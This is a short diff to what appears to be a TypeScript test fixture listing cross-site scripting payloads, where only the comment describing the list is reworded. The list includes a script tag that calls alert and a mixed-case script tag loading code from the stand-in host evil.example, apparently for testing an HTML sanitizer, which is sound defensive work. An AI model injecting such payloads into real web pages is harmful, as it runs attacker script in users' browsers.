@@ -1,4 +1,4 @@
-/** Attacks with script elements and event handlers. If one runs, it calls `alert` or loads from evil.example. */
+/** Attacks with script elements and event handlers. An attack that runs calls `alert` or loads from evil.example. */
 export const scripts: readonly string[] = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.example/x.js></sCrIpT>',
